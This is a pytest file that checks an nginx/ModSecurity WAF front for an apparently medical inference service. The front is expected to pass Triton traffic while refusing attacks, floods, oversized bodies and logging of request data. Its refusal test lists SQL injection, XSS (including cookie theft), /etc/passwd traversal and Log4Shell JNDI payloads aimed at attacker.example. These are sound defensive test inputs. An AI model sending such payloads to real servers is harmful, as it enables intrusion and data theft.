"""The ALB front with the real nginx + ModSecurity + CRS: a web ACL shaped like RadStream's lets
Triton's traffic through and refuses attacks, floods and oversized bodies as AWS WAF would."""

from __future__ import annotations

import http.client
import json
import os
import ssl
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from radstream import certificates
from radstream.sandbox.tls_front import TlsFronts, missing_waf_software, nginx_binary
from radstream.sandbox.waf_rules import WafPolicy, policy_for

pytestmark = [
    pytest.mark.skipif(nginx_binary() is None, reason="no nginx binary (apt-get install nginx)"),
    pytest.mark.skipif(missing_waf_software() is not None, reason=str(missing_waf_software())),
]

MODEL = "radstream_cxr"
USER_AGENT = "python/gevent-http-client-1.5"


def managed(name: str, priority: int, group: str, **extra: Any) -> dict[str, Any]:
    return {"Name": name, "Priority": priority, "OverrideAction": {"None": {}},
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": group, **extra}}}


def radstream_like_web_acl(size_override: bool = True) -> dict[str, Any]:
    overrides = {"RuleActionOverrides": [{"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}}]}
    return {"Name": "radstream-door", "DefaultAction": {"Allow": {}}, "Rules": [
        managed("common", 0, "AWSManagedRulesCommonRuleSet", **(overrides if size_override else {})),
        managed("sqli", 1, "AWSManagedRulesSQLiRuleSet"),
        managed("bad-inputs", 2, "AWSManagedRulesKnownBadInputsRuleSet"),
        {"Name": "body-under-10-mb", "Priority": 3, "Action": {"Block": {}},
         "Statement": {"RegexMatchStatement": {"RegexString": "^[0-9]{8,}$",
                                               "FieldToMatch": {"SingleHeader": {"Name": "content-length"}},
                                               "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}},
        {"Name": "flood", "Priority": 4, "Action": {"Block": {"CustomResponse": {"ResponseCode": 429}}},
         "Statement": {"RateBasedStatement": {"Limit": 10, "EvaluationWindowSec": 60, "AggregateKeyType": "IP"}}},
    ]}


class FakeTriton(BaseHTTPRequestHandler):
    """Triton's HTTP endpoints as far as the door is concerned: 200 with JSON, the body read whole."""

    def _answer(self) -> None:
        received = len(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        if self.path.endswith("/infer"):
            answer: dict[str, Any] = {"model_name": MODEL, "received": received}
        elif self.path.startswith(f"/v2/models/{MODEL}"):
            answer = {"name": MODEL, "versions": ["1"], "platform": "onnxruntime_onnx"}
        else:
            answer = {}
        out = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_POST = _answer

    def log_message(self, format: str, *args: Any) -> None:
        return None


@pytest.fixture(scope="module")
def upstream() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeTriton)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


@pytest.fixture(scope="module")
def issued(tmp_path_factory: pytest.TempPathFactory) -> certificates.Issued:
    return certificates.ensure(tmp_path_factory.mktemp("door-ca"), "door CA", "door", ips=("127.0.0.1",))


class Door:
    """A client of one front, verifying its certificate."""

    def __init__(self, port: int, ca: Path) -> None:
        self.port, self.context = port, ssl.create_default_context(cafile=str(ca))

    def request(self, method: str, path: str, body: bytes | str | None = None,
                headers: dict[str, str] | None = None, user_agent: bool = True) -> tuple[int, bytes]:
        connection = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.context, timeout=10)
        try:
            connection.request(method, path, body=body,
                               headers={**({"User-Agent": USER_AGENT} if user_agent else {}), **(headers or {})})
            response = connection.getresponse()
            return response.status, response.read()
        finally:
            connection.close()

    def status(self, method: str, path: str, body: bytes | str | None = None, **kwargs: Any) -> int:
        return self.request(method, path, body, **kwargs)[0]


def open_door(tmp_path: Path, issued: certificates.Issued, upstream: int, policy: WafPolicy) -> Iterator[Door]:
    fronts = TlsFronts(tmp_path / "fronts")
    started = time.monotonic()
    port = fronts.ensure("door", issued.server_cert.read_bytes(), issued.server_key.read_bytes(), upstream, policy)
    elapsed = time.monotonic() - started
    print(f"WAF front started in {elapsed * 1000:.0f} ms")
    try:
        assert port is not None and elapsed < 5.0
        yield Door(port, issued.ca_cert)
    finally:
        fronts.stop()


@pytest.fixture
def door(tmp_path: Path, issued: certificates.Issued, upstream: int) -> Iterator[Door]:
    """A front of its own per test: a fresh rate-limit bucket."""
    yield from open_door(tmp_path, issued, upstream, policy_for(radstream_like_web_acl()))


def binary_infer_body() -> tuple[bytes, dict[str, str]]:
    """What tritonclient sends with binary data: a JSON header, then the raw FP32 tensor."""
    header = json.dumps({"inputs": [{"name": "image", "shape": [1, 1, 224, 224], "datatype": "FP32",
                                     "parameters": {"binary_data_size": 200_704}}]}).encode()
    return header + os.urandom(200_704), {"Content-Type": "application/octet-stream",
                                          "Inference-Header-Content-Length": str(len(header))}


def test_triton_traffic_passes(door: Door):
    assert door.status("GET", "/v2/health/ready") == 200
    status, metadata = door.request("GET", f"/v2/models/{MODEL}")
    assert status == 200 and json.loads(metadata)["name"] == MODEL
    body, headers = binary_infer_body()
    status, answer = door.request("POST", f"/v2/models/{MODEL}/infer", body, headers=headers)
    assert status == 200 and json.loads(answer)["received"] == len(body)  # all of it reaches Triton
    tensor = json.dumps({"inputs": [{"name": "image", "shape": [1, 1, 224, 224], "datatype": "FP32",
                                     "data": [round((i % 997) / 997, 6) for i in range(50_176)]}]})
    status, answer = door.request("POST", f"/v2/models/{MODEL}/infer", tensor,
                                  headers={"Content-Type": "application/json"})
    assert status == 200 and json.loads(answer)["received"] == len(tensor.encode())


@pytest.mark.parametrize("method, path, body, headers", [
    ("GET", f"/v2/models/{MODEL}?version=1%27%20OR%20%271%27=%271", None, {}),
    ("GET", "/v2/health/ready", None, {"Referer": "https://x.example/?id=1' UNION SELECT password FROM users--"}),
    ("POST", f"/v2/models/{MODEL}/infer", json.dumps({"id": "1' OR '1'='1' --"}), {"Content-Type": "application/json"}),
    ("GET", f"/v2/models/{MODEL}?q=%3Cscript%3Ealert(1)%3C/script%3E", None, {}),
    ("GET", "/v2/health/ready", None, {"Referer": "<script>alert(document.cookie)</script>"}),
    ("POST", f"/v2/models/{MODEL}/infer", json.dumps({"note": "<img src=x onerror=alert(1)>"}),
     {"Content-Type": "application/json"}),
    ("GET", "/../../etc/passwd", None, {}),
    ("GET", "/%2e%2e%2f%2e%2e%2fetc/passwd", None, {}),
    ("GET", "/v2/health/ready", None, {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}),
    ("GET", "/v2/health/ready", None, {"X-Api-Version": "${${lower:j}ndi:ldap://attacker.example/a}"}),
], ids=["sqli-query", "sqli-header", "sqli-json", "xss-query", "xss-header", "xss-json", "traversal",
        "traversal-encoded", "log4j", "log4j-disguised"])
def test_attacks_are_refused(door: Door, method: str, path: str, body: str | None, headers: dict[str, str]):
    assert door.status(method, path, body, headers=headers) == 403


def test_no_user_agent_is_refused(door: Door):
    assert door.status("GET", "/v2/health/ready", user_agent=False) == 403


def test_an_oversized_declared_body_is_refused_before_it_is_sent(door: Door):
    connection = http.client.HTTPSConnection("127.0.0.1", door.port, context=door.context, timeout=5)
    try:
        connection.putrequest("POST", f"/v2/models/{MODEL}/infer")
        connection.putheader("User-Agent", USER_AGENT)
        connection.putheader("Content-Type", "application/octet-stream")
        connection.putheader("Content-Length", str(20_000_000))
        connection.endheaders()  # and not one byte of the body: an answer now means it was never read
        assert connection.getresponse().status == 403
    finally:
        connection.close()


def test_a_flood_beyond_the_limit_gets_429(door: Door):
    statuses = [door.status("GET", "/v2/health/ready") for _ in range(20)]
    assert statuses[:10] == [200] * 10
    assert statuses[-1] == 429 and set(statuses) == {200, 429}


def test_without_the_size_override_aws_refuses_every_inference_request(tmp_path, issued, upstream):
    policy = policy_for(radstream_like_web_acl(size_override=False))
    for door in open_door(tmp_path, issued, upstream, policy):
        body, headers = binary_infer_body()
        assert door.status("POST", f"/v2/models/{MODEL}/infer", body, headers=headers) == 403
        assert door.status("GET", "/v2/health/ready") == 200


def test_the_waf_front_writes_no_request_data(door: Door, tmp_path: Path):
    assert door.status("GET", "/v2/health/ready", headers={"Referer": "<script>patient-4711</script>"}) == 403
    written = b"".join(p.read_bytes() for p in (tmp_path / "fronts").rglob("*") if p.is_file())
    assert b"patient-4711" not in written
